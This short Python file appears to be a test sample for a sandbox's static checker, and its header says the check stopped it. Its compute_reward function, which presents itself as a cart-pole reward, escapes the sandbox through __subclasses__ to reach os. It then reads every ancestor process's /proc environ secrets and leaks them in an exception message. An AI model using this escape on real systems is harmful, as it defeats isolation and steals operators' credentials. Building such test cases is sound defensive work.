# Tries: escape through __subclasses__ to os, then read the secrets of every ancestor from
# /proc/<pid>/environ (the worker's own environment is scrubbed; its parent may be the
# fork server, whose environment is too, so it climbs to the process that started it).
# Stopped by: static
# ruff: noqa
import numpy as np


def compute_reward(pole_angle):
    for cls in ().__class__.__bases__[0].__subclasses__():
        if cls.__name__ == "_wrap_close":
            os = cls.__init__.__globals__
            pid, seen = os["getppid"](), []
            while pid > 1:
                try:
                    fd = os["open"](f"/proc/{pid}/environ", 0)
                    seen.append(os["read"](fd, 100000).decode(errors="replace"))
                except Exception as exc:
                    seen.append(str(exc))
                stat = os["read"](os["open"](f"/proc/{pid}/stat", 0), 4096).decode()
                pid = int(stat.rsplit(")", 1)[1].split()[1])
            raise ValueError(" | ".join(seen))
    return -np.abs(pole_angle), {}
